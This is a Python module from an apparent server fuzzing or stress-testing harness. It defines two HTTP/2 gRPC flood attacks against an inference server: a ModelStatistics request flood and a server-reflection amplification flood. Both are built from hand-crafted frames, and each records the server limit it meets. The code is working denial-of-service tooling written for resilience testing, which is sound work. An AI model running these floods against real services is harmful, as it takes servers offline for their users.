"""Requests of thirty bytes whose answers take long to make, or are long."""

from __future__ import annotations

from itertools import count
from typing import Final

from fuzz.attacks.attack import Attack
from fuzz.attacks.open_calls import indexed_block
from fuzz.attacks.peer import Peer
from fuzz.attacks.wire import END_HEADERS, END_STREAM, Kind, frame, framed, greeting

__all__ = ["ReflectionFlood", "StatisticsFlood"]

#: As many as fit into one read of the server.
_AT_ONCE: Final = 2_200


class StatisticsFlood(Attack):
    """ModelStatistics of all models, without a break."""

    name = "statistics-flood"
    summary = "ModelStatistics of all models, 2,200 requests in 64 KiB"
    limit = "the answer is made once per round, and for a tenth of the time at most; such requests are answered"
    stops = ()
    connections = 2

    async def strike(self, peer: Peer) -> None:
        first, again = indexed_block("/inference.GRPCInferenceService/ModelStatistics")
        body = framed(b"")

        def call(stream_id: int) -> bytes:
            head = frame(Kind.HEADERS, END_HEADERS, stream_id, first if stream_id == 1 else again)
            return head + frame(Kind.DATA, END_STREAM, stream_id, body)

        await peer.send(greeting())
        for begin in count(1, 2 * _AT_ONCE):
            while begin // 2 - peer.answered >= _AT_ONCE:
                await peer.wait_answer()
            await peer.send(b"".join(map(call, range(begin, begin + 2 * _AT_ONCE, 2))), _AT_ONCE)


class ReflectionFlood(Attack):
    """Server reflection: requests for the longest file without a break, 10,000 in each call."""

    name = "reflection-flood"
    summary = "requests for a file of server reflection, 25 bytes for 18 KB, 10,000 in a call"
    limit = "a connection's turn ends after 4 ms; a call whose answers are not read ends: RESOURCE_EXHAUSTED"
    stops = ()
    connections = 2

    async def strike(self, peer: Peer) -> None:
        first, again = indexed_block("/grpc.reflection.v1.ServerReflection/ServerReflectionInfo")
        file_by_filename = b"\x1a\x12grpc_service.proto"
        body = framed(file_by_filename) * 1_000
        await peer.send(greeting())
        for stream_id in count(1, 2):
            head = frame(Kind.HEADERS, END_HEADERS, stream_id, first if stream_id == 1 else again)
            bodies = frame(Kind.DATA, 0, stream_id, body) * 9 + frame(Kind.DATA, END_STREAM, stream_id, body)
            await peer.send(head + bodies, 10_000)
            while peer.answered <= stream_id // 2:
                await peer.wait_answer()
